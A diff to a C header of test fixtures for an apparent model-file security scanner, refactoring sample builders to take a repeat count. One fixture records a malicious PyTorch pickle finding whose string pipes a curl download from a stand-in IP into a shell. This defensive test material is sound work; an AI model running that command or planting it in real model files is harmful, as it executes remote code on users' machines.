@@ -69,7 +69,7 @@ static inline struct model *sample_model(struct result *r, const char *target)
 }
 
 /* A PyTorch zip whose data.pkl runs a shell. */
-static inline struct model *sample_malicious(struct result *r)
+static inline struct model *sample_malicious_of(struct result *r, int repeats)
 {
     struct model *m = sample_model(r, "models/resnet50-final.pt");
     struct file *f = sample_file(m, bytes_of("resnet50-final.pt"), 102400512,
@@ -85,7 +85,7 @@ static inline struct model *sample_malicious(struct result *r)
     sample_finding(
         pkl, &sample_call, 1042, "called by REDUCE",
         "os.system('curl -s http://203.0.113.9/stage2.sh | sh -c \"$(cat)\" # torch')");
-    for (int i = 0; i < 300; i++)
+    for (int i = 0; i < repeats; i++)
         sample_finding(pkl, &sample_import, (uint64_t)(2000 + i), "not in any list",
                        i % 2 ? "my_pkg.layers.Block" : "my_pkg.layers.Norm");
     struct artifact *inner = artifact_child(pkl, bytes_of("bytes@512"), 512, 128);
@@ -100,6 +100,11 @@ static inline struct model *sample_malicious(struct result *r)
     struct fact *calls = fact_list(pkl->arena, stream, "calls");
     fact_text(pkl->arena, calls, "", bytes_of("os.system('curl …')"));
     return m;
+}
+
+static inline struct model *sample_malicious(struct result *r)
+{
+    return sample_malicious_of(r, 300);
 }
 
 /* A Hugging Face cache with one right and one tampered blob. */
@@ -271,7 +276,7 @@ static inline struct model *sample_signed(struct result *r)
 }
 
 /* All of the above. */
-static inline struct result *sample_rich(void)
+static inline struct result *sample_rich_of(int repeats)
 {
     struct result *r = result_new();
     sample_hostile(r);
@@ -282,9 +287,9 @@ static inline struct result *sample_rich(void)
     struct model *noted = sample_clean(r, "models/noted", TRUST_MEDIUM);
     finding_add(&noted->findings, noted->arena, &sample_note, 0,
                 bytes_of("the reference names no commit"), (struct span){ 0 });
-    sample_malicious(r);
+    sample_malicious_of(r, repeats);
     sample_pictures(r);
-    model_share_file(sample_signed(r), r->models->next->files->next);
+    model_share_file(sample_signed(r), r->models->next->files->next->next);
     struct error e;
     error_set(&e, ERROR_IO, "hf:acme/x: cannot be fetched: Connection refused");
     result_add_error(r, bytes_of("hf:acme/x"), &e, true);
@@ -295,6 +300,11 @@ static inline struct result *sample_rich(void)
     r->rules_digest = "0cc175b9c0f1b6a831c399e269772661";
     result_count(r);
     return r;
+}
+
+static inline struct result *sample_rich(void)
+{
+    return sample_rich_of(300);
 }
 
 #endif
